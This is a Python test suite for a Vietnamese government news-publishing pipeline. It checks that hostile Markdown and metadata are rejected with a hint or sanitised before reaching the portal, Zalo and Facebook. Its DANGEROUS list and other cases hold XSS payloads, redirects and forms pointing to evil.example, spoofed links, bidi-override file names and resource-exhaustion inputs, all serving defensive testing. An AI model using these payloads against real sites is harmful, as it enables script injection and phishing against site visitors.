"""Hostile texts: bounded in time and memory, told with a remedy or harmless on every channel."""

import json
import os
import re
import time
from pathlib import Path

import html5lib
import pytest

from pipeline import intake
from pipeline.check import Work, Workshop
from pipeline.model import Outcome
from pipeline.prepare import prepare

HEAD = 'kind: article\ntitle: "Tin thử"\nsummary: "Tóm tắt"\ndate: 2026-11-20\nauthor: A\nsource: B\n'
CPU = 5.0  # seconds a file, the promise; the aim is one
MEMORY = 300 * 1024  # KB


@pytest.fixture(scope="module")
def media(tmp_path_factory):
    return tmp_path_factory.mktemp("media")


@pytest.fixture
def drop(tmp_path, media, now):
    def prepared(data, head=HEAD):
        if isinstance(data, str):
            data = f"---\n{head}---\n{data}".encode()
        folder = tmp_path / "so-noi-vu"
        folder.mkdir(exist_ok=True)
        (folder / "tin.md").write_bytes(data)
        shop = Workshop(now.tzinfo, "https://cchc.example.vn", ("portal", "zalo", "facebook"), media, now)
        before = memory(reset=True)
        began = time.process_time()
        found = prepare(Work(tmp_path, intake.single(tmp_path, folder / "tin.md"), {}), shop)
        assert time.process_time() - began < CPU
        assert memory() < MEMORY + before
        return found

    return prepared


def memory(*, reset=False):
    """Peak of this process in KB, since the last reset: what other tests took before is not ours."""
    if reset:
        Path("/proc/self/clear_refs").write_text("5", encoding="ascii")  # proc(5): resets VmHWM
    return int(re.search(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text())[1])


def filled(sign, size=250_000):
    return (sign * (size // len(sign.encode()) + 1)).encode()[:size].decode(errors="ignore")


def codes(prepared):
    return {finding.code for finding in prepared.findings}


@pytest.mark.parametrize(
    "sign",
    ["[", "![", "[a](", "*a ", "**a*", "`a", "<", "<a ", "<!--", "&", "~~a", "[^1]", "|a", "http://", "> ", "- ", "a\n=\n", "\n",
     "\u0301\u0302", "e\u0323\u0301\u0323", "1", "1/", "a.", "09", "quận Cầu Giấy ", "Nghị định 61/2018/NĐ-CP. ", "á»", "Baø ", "aé\n"],
)  # fmt: skip
def test_a_flood_of_signs_costs_little(drop, sign):
    """A quarter of a megabyte of one sign; refused with a remedy, or harmless."""
    found = drop(filled(sign))

    assert found.outcome in (Outcome.PUBLISH, Outcome.REVIEW, Outcome.REJECT)
    assert found.outcome != Outcome.REJECT or all(finding.hint for finding in found.findings)


def test_twenty_thousand_brackets_are_refused_by_name(drop):
    """The parser would take seconds."""
    found = drop("[" * 20_000)

    assert ({"FILE007"}, Outcome.REJECT) == (codes(found), found.outcome)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"---\n" + b"a: 1\n" * 50_000 + b"---\nx", "META007"),
        (("---\n" + "".join(f"k{n}:\n" for n in range(33_000)) + "---\nx").encode(), "META004"),
        (b"---\na: " + b"[" * 100_000 + b"\n---\nx", "META010"),
        (b"---\na: " + b"{a: " * 50_000 + b"\n---\nx", "META010"),
        (b'---\ntitle: "' + b'\\"' * 100_000 + b"\n---\nx", "META002"),
        (b"---\ntitle: a\0b\n---\nx", "FILE003"),
        (b"\0" * 1000, "FILE003"),
        (b"x" * (50 * 1024 * 1024), "FILE002"),
        (b"---\n" + b"x\n" * 100_000, "META001"),
        (b"---\n? " * 20_000, "META001"),
    ],
    ids=range(10),
)
def test_a_hostile_file_is_refused_with_a_remedy(drop, data, code):
    """100,000 lines of metadata, deep nesting, NUL, 50 MB."""
    found = drop(data)

    assert (code, Outcome.REJECT) == (found.findings[0].code, found.outcome)
    assert found.findings[0].hint


DANGEROUS = [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))", "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHN2Zz4=)", "[a](vbscript:x)", "[a]: javascript:alert(1)\n\n[a]", "<javascript:alert(1)>",
    "![a](javascript:alert(1))", "![a](data:image/svg+xml;base64,PHN2Zy8+)", "![x\" onerror=\"alert(1)](a.jpg)",
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<iframe srcdoc='<script>x</script>'></iframe>", "<br onclick=alert(1)>",
    "<u onmouseover=alert(1)>x</u>", "<sub style='x:expression(alert(1))'>x</sub>", "<math><mi xlink:href='javascript:x'>",
    "```\n</pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[a](https://x.vn \"t\\\" onclick=alert(1)\")", "|a|\n|-|\n|<img src=x onerror=alert(1)>|", "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=p></form>", "<!--><script>alert(1)</script>-->", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a](//evil.example)", "<https://ok.vn/\"onmouseover=alert(1)>", "https://ok.vn/\u202egpj.exe", "[a](https://u:p@evil.example)",
]  # fmt: skip
SAFE = ("http://", "https://", "mailto:", "tel:", "#", "..", "?")


def unsafe(markup):
    """Elements, attributes and addresses that could run or lead somewhere hidden."""
    tree = html5lib.parseFragment(markup, namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
            "math",
        }:
            yield str(element.tag)
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name == "style":
                yield name
            if name in ("href", "src", "srcset", "action") and not value.strip().lower().startswith(SAFE):
                yield f"{name}={value}"


@pytest.mark.parametrize("danger", DANGEROUS)
def test_nothing_dangerous_reaches_a_channel(drop, danger):
    """In the text; whatever the findings say, what is rendered is harmless."""
    found = drop(f"Mở đầu.\n\n{danger}\n\nKết thúc.")
    if not found.posts:  # a picture that is not there
        assert found.outcome == Outcome.REJECT
        return
    portal, zalo, facebook = (json.loads(found.posts[name][0]) for name in ("portal", "zalo", "facebook"))

    assert [] == list(unsafe(portal["body_html"]))
    for block in zalo["body"]:
        if block["type"] == "text":
            assert {"p", "br", "DOCUMENT_FRAGMENT"} >= {
                str(element.tag) for element in html5lib.parseFragment(block["html"], namespaceHTMLElements=False).iter()}  # fmt: skip
    assert "javascript:" not in facebook["message"].lower()
    for body, _digest in found.posts.values():
        assert not set(json.loads(f"[{body}]")[0]["title"]) & set("\u202e\u200b\x00")


@pytest.mark.parametrize(
    ("head", "body", "code"),
    [
        ('title: "Hồ sơ \\u202Egpj.exe"\n', "x", ""),
        ("title: Hồ sơ \u202egpj.exe\n", "x", "TXT003"),
        ("title: Hồ s\u200bơ mới\n", "x", "TXT004"),
        ('title: "Hồ sơ \\x1b[2Jmới"\n', "x", ""),
        ('title: "Hồ sơ \\ud800mới"\n', "x", ""),
        ('title: "<script>alert(1)</script>"\n', "x", ""),
        ("title: Tin\n", "\x1b[31mđỏ", "TXT004"),
        ("title: Tin\n", "[a](https://xn--80ak6aa92e.com)", "LINK003"),
        ("title: Tin\n", "[a](https://dichvucong.gov.vn@evil.example/)", "LINK003"),
        ("title: Tin\n", "[a](https://hanoi.gov.vn/\u202egpj.exe)", "TXT003"),
        ("title: Tin\n", "[https://hanoi.gov.vn](https://evil.example/)", "LINK004"),
        ("title: Tin\n", "[a](javascript:x)", "LINK001"),
        ("title: Tin\n", "![a](data:image/png;base64,xx)", "LINK001"),
    ],
)
def test_tricks_are_told_and_never_shown(drop, head, body, code):
    """Direction signs, hidden letters, terminals' escapes, hosts in other alphabets."""
    found = drop(body, head + "kind: article\nsummary: Tóm tắt\ndate: 2026-11-20\nauthor: A\nsource: B\n")

    assert not code or code in codes(found)
    for shown in (found.title, *(finding.message for finding in found.findings)):
        assert shown.isprintable()
    for stored, _digest in found.posts.values():
        post = json.loads(stored)
        assert not {"\u202e", "\u200b", "\x1b"} & set(stored)
        assert "\\u001b" not in stored
        assert "script>" not in post.get("body_html", "")


@pytest.mark.parametrize(
    "name", ["a/" * 3000 + "a.jpg", "a" * 300 + ".jpg", "ấ" * 120 + ".jpg"], ids=["deep", "long", "marks"]
)
def test_a_picture_name_that_no_disk_takes_is_told(drop, name):
    """Longer than a path or a name may be."""
    found = drop("Nội dung.", HEAD + f'cover: "{name}"\ncover_alt: Quầy\n')

    assert Outcome.REJECT == found.outcome
    assert "IMG002" in codes(found) and found.findings[0].hint


def test_a_pipe_in_the_folder_stops_nobody(tmp_path):
    """Opening one waits for a writer that never comes."""
    folder = tmp_path / "so-noi-vu"
    folder.mkdir()
    os.mkfifo(folder / "ong.md")
    os.mkfifo(folder / "ong.docx")

    seen = intake.walk(tmp_path)

    assert ({}, {"so-noi-vu/ong.md", "so-noi-vu/ong.docx"}) == (dict(seen.drops), set(seen.ignored))


def test_a_pipe_that_is_named_is_read_as_empty(tmp_path, media, now):
    """`bantin check` names files itself."""
    folder = tmp_path / "so-noi-vu"
    folder.mkdir()
    os.mkfifo(folder / "ong.md")
    shop = Workshop(now.tzinfo, "https://cchc.example.vn", ("portal",), media, now)

    assert Outcome.REJECT == prepare(Work(tmp_path, intake.single(tmp_path, folder / "ong.md"), {}), shop).outcome


def test_a_name_that_is_no_text_costs_its_own_file_only(tmp_path, media, now):
    """Bytes of an old zip or a badly mounted share; the ledger takes only text, and it once stopped the whole run."""
    folder = tmp_path / "so-noi-vu"
    folder.mkdir()
    (folder / "tin-\udcff\udcfe.md").write_text(f"---\n{HEAD}---\nNội dung.", encoding="utf-8")
    shop = Workshop(now.tzinfo, "https://cchc.example.vn", ("portal",), media, now)

    (drop,) = intake.walk(tmp_path).drops.values()
    found = prepare(Work(tmp_path, drop, {}), shop)

    assert ("so-noi-vu/tin-\ufffd\ufffd.md", Outcome.REJECT) == (drop.path, found.outcome)
    assert {"FILE003"} == codes(found) and found.findings[0].hint
